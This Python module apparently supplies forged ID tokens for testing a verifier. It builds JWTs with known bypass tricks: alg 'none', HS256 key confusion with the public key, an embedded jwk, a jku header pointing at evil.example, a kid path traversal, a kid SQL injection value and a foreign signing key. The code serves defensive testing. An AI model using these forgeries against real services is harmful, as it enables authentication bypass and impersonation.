"""ID tokens that are not ours, each by a trick that has worked somewhere."""

import hmac
import json
from base64 import urlsafe_b64encode
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jws
from joserfc.jwk import JWKRegistry, RSAKey

Claims = dict[str, Any]
ATTACKERS = RSAKey.generate_key(2048)
ANY = jws.JWSRegistry(algorithms=["RS256"], strict_check_header=False)


def _signed(header: dict[str, Any], claims: Claims, key: Any) -> str:
    return jws.serialize_compact(header, json.dumps(claims).encode(), key, registry=ANY)


def none(claims: Claims, published: dict[str, Any], spelling: str = "none") -> str:
    """No signature at all (CVE-2026-28802 of Authlib)."""
    parts = ({"alg": spelling, "kid": published["kid"]}, claims)
    return ".".join(_encoded(part) for part in parts) + "."


def none_in_capitals(claims: Claims, published: dict[str, Any]) -> str:
    return none(claims, published, "nOnE")


def hs256_by_pem(claims: Claims, published: dict[str, Any]) -> str:
    """Our public key, which everybody has, taken for a shared secret."""
    public: Any = JWKRegistry.import_key(published)
    pem = public.public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    header = {"alg": "HS256", "kid": published["kid"]}
    return _by_hand(header, claims, pem)


def hs256_by_jwk(claims: Claims, published: dict[str, Any]) -> str:
    """The same with the key as it is published."""
    header = {"alg": "HS256", "kid": published["kid"]}
    return _by_hand(header, claims, json.dumps(published).encode())


def jwk_in_header(claims: Claims, published: dict[str, Any]) -> str:
    """The token brings its own key (CVE-2026-27962 of Authlib)."""
    key = ATTACKERS.as_dict(private=False)
    return _signed({"alg": "RS256", "kid": published["kid"], "jwk": key}, claims, ATTACKERS)


def jku_in_header(claims: Claims, published: dict[str, Any]) -> str:
    """The token says where its key is."""
    at = {"jku": "https://evil.example/keys", "x5u": "https://evil.example/certificate"}
    return _signed({"alg": "RS256", "kid": published["kid"], **at}, claims, ATTACKERS)


def kid_of_a_file(claims: Claims, published: dict[str, Any]) -> str:
    """The id of the key is a path to a file with known contents."""
    return _by_hand({"alg": "HS256", "kid": "../../../../dev/null"}, claims, b"")


def kid_of_sql(claims: Claims, published: dict[str, Any]) -> str:
    """The id of the key is SQL."""
    return _by_hand({"alg": "HS256", "kid": "x' UNION SELECT 'a' --"}, claims, b"a")


def another_key(claims: Claims, published: dict[str, Any]) -> str:
    """Signed by somebody else under our key's id."""
    return _signed({"alg": "RS256", "kid": published["kid"]}, claims, ATTACKERS)


def _by_hand(header: dict[str, Any], claims: Claims, secret: bytes) -> str:
    """HS256, with secrets that a library would refuse."""
    signed = f"{_encoded(header)}.{_encoded(claims)}"
    return f"{signed}.{_base64(hmac.digest(secret, signed.encode(), 'sha256'))}"


def _encoded(part: Any) -> str:
    return _base64(json.dumps(part).encode())


def _base64(data: bytes) -> str:
    return urlsafe_b64encode(data).rstrip(b"=").decode()


TRICKS = {
    trick.__name__.replace("_", " "): trick
    for trick in (
        *(none, none_in_capitals, hs256_by_pem, hs256_by_jwk, jwk_in_header, jku_in_header),
        *(kid_of_a_file, kid_of_sql, another_key),
    )
}
